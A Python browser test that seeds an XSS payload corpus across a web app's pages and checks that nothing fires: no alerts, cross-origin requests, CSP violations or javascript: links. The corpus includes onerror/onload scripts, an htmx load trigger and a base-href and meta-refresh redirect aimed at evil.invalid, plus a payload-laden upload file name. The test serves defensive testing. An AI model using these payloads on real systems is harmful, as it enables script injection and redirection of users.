"""Check 8: an XSS corpus stored everywhere user or model text lands, viewed in real Chromium → inert.

The corpus goes into prompts, completions, rubric and constitution text, user and project names, a job error
(as a remote server's message would) and an import error (a bad file whose error echoes the payload). Every page
that shows them is opened as a lead (and the user list as an admin): no dialog opens, no request leaves for
another origin, no Content-Security-Policy violation fires (an injected `onerror`/`onload`/inline script would
trigger one even though CSP blocks it), no `javascript:` link survives, and Markdown containers carry hx-disable.
"""

from __future__ import annotations

import hashlib

import pytest

from app.accounts import users
from app.models import Completion, Job, ModelEndpoint, Prompt
from app.projects import constitutions, projects
from tests.browser.conftest import settle

PASSWORD = "correct horse battery staple"
pytestmark = pytest.mark.slow

CORPUS = [
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(2)>',
    '<a href="javascript:alert(3)">click me</a>',
    "[a markdown link](javascript:alert(4))",
    "</script><script>alert(5)</script>",
    '<div hx-get="http://evil.invalid/hx" hx-trigger="load">hx</div>',
    "<img src='http://evil.invalid/pixel.png'>",
    "<iframe src=\"http://evil.invalid/\"></iframe><object data=x></object>",
    "'><base href=\"http://evil.invalid/\"><meta http-equiv=refresh content=\"0;url=http://evil.invalid\">",
    '{"x": "</script><script>alert(6)</script>"}',
]
XSS = " ".join(CORPUS)

WATCH = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
"""


def _seed(server) -> dict[str, int]:  # type: ignore[no-untyped-def]
    with server.session() as db:
        admin = users.create_user(db, "admin@example.org", PASSWORD, "admin", name="Admin " + XSS)
        lead = users.create_user(db, "lead@example.org", PASSWORD, "lead", name="Lead " + XSS[:150])
        ann = users.create_user(db, "ann@example.org", PASSWORD, "annotator", name=XSS[:190])
        project = projects.create_project(db, lead, name=("P " + XSS)[:200], completions_per_prompt=4, overlap=2,
                                          rubric_text="# Rubric\n\n" + "\n\n".join(CORPUS), criteria=CORPUS[:3],
                                          description=XSS)
        projects.add_member(db, project, lead, email=ann.email, role="annotator")
        prompt = Prompt(project_id=project.id, text="Prompt " + XSS, text_hash=hashlib.sha256(b"x").hexdigest(),
                        reference=XSS, meta={"note": XSS})
        db.add(prompt)
        db.flush()
        db.add_all(Completion(prompt_id=prompt.id, text=f"{j}: {XSS}") for j in range(4))
        principles = [{"name": "P1 " + CORPUS[0], "rationale": XSS, "priority": 1, "comparison": "Which? " + XSS,
                       "critique": XSS, "revision": XSS}]
        constitutions.create_version(db, project, lead, principles=principles, base_version=None, note=XSS[:400])
        job = Job(kind="sample_completions", project_id=project.id, state="failed",
                  error="remote said: " + XSS, result={"message": XSS[:300], "done": 0, "total": 1})
        db.add(job)
        # A model endpoint named and described by the corpus: shown in the lead's pickers and the admin's list.
        db.add(ModelEndpoint(name=XSS[:100], base_url="http://10.0.0.7:8000/v1?" + XSS[:200], model=XSS[:300],
                             api_key_stored=XSS[:500], allow_private=True, created_by_id=admin.id))
        db.commit()
        return {"project": project.id, "job": job.id, "admin": admin.id}


def _login(page, base: str, email: str) -> None:  # type: ignore[no-untyped-def]
    page.goto(f"{base}/login")
    page.fill("input[name=email]", email)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/projects")


def _check(page, base: str, url: str, problems: list[str]) -> None:  # type: ignore[no-untyped-def]
    page.goto(base + url)
    page.wait_for_load_state("networkidle")  # htmx has processed the document (hx-trigger=load would have fired)
    settle(page)
    csp = page.evaluate("window.__csp || []")
    if csp:
        problems.append(f"{url}: CSP violations {csp}")
    js_links = page.evaluate("[...document.querySelectorAll('a[href]')].filter(a => /^\\s*javascript:/i.test("
                             "a.getAttribute('href'))).map(a => a.outerHTML)")
    if js_links:
        problems.append(f"{url}: javascript: links {js_links}")
    injected = page.evaluate("[...document.querySelectorAll('iframe, object, base, meta[http-equiv], svg[onload], "
                             "img[onerror], [hx-trigger=load]')].map(e => e.outerHTML.slice(0, 80))")
    if injected:
        problems.append(f"{url}: injected elements {injected}")
    bare_markdown = page.evaluate("[...document.querySelectorAll('.markdown')].filter(e => "
                                  "!e.closest('[hx-disable]')).length")
    if bare_markdown:
        problems.append(f"{url}: {bare_markdown} Markdown container(s) without hx-disable")


def test_the_xss_corpus_is_inert_on_every_page(live_server, chromium) -> None:  # type: ignore[no-untyped-def]
    ids = _seed(live_server)
    base = live_server.base
    context = chromium.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: None if r.url.startswith((base, "data:")) else foreign.append(r.url))
    problems: list[str] = []
    try:
        _login(page, base, "lead@example.org")
        pid = ids["project"]
        for url in ("/projects", f"/projects/{pid}", f"/projects/{pid}/annotate", f"/projects/{pid}/rubric",
                    f"/projects/{pid}/rubric/history", f"/projects/{pid}/constitution",
                    f"/projects/{pid}/constitution/history", f"/projects/{pid}/jobs", f"/jobs/{ids['job']}",
                    f"/projects/{pid}/exports", f"/projects/{pid}/agreement", f"/projects/{pid}/judge",
                    f"/projects/{pid}/training", f"/projects/{pid}/revisions", "/account"):
            _check(page, base, url, problems)
        # The rubric editor's live preview (an HTMX partial of sanitised Markdown).
        page.goto(f"{base}/projects/{pid}/rubric")
        page.fill("textarea[name=text]", XSS)
        # The saved rubric's preview starts with its heading; the corpus alone has none.
        page.wait_for_function("() => document.querySelector('#preview') && !document.querySelector('#preview h1')")
        settle(page)
        # An import whose error message echoes the payload (a CSV header and a JSON line made of it).
        page.goto(f"{base}/projects/{pid}/import")
        page.set_input_files("input[type=file]", {"name": "evil<img src=x onerror=alert(7)>.jsonl",
                                                  "mimeType": "application/json",
                                                  "buffer": ('{"' + CORPUS[0].replace('"', "'") + '": 1}\n'
                                                             + XSS + "\n").encode()})
        # As a plain form post: htmx 2 does not swap 4xx answers into #result (reported separately).
        with page.expect_navigation():
            page.evaluate("document.querySelector(\"form[enctype='multipart/form-data']\").submit()")
        page.wait_for_selector("#result table", timeout=10_000)
        settle(page)
        assert "Nothing was imported" in page.inner_text("#result")
        csp = page.evaluate("window.__csp || []")
        if csp:
            problems.append(f"import errors: CSP violations {csp}")
        page.context.clear_cookies()
        _login(page, base, "admin@example.org")
        _check(page, base, "/admin/users", problems)
        _check(page, base, "/admin/endpoints", problems)
    finally:
        context.close()
    assert not dialogs, f"dialogs opened: {dialogs}"
    assert not foreign, f"requests to other origins: {foreign}"
    assert not problems, "\n".join(problems)
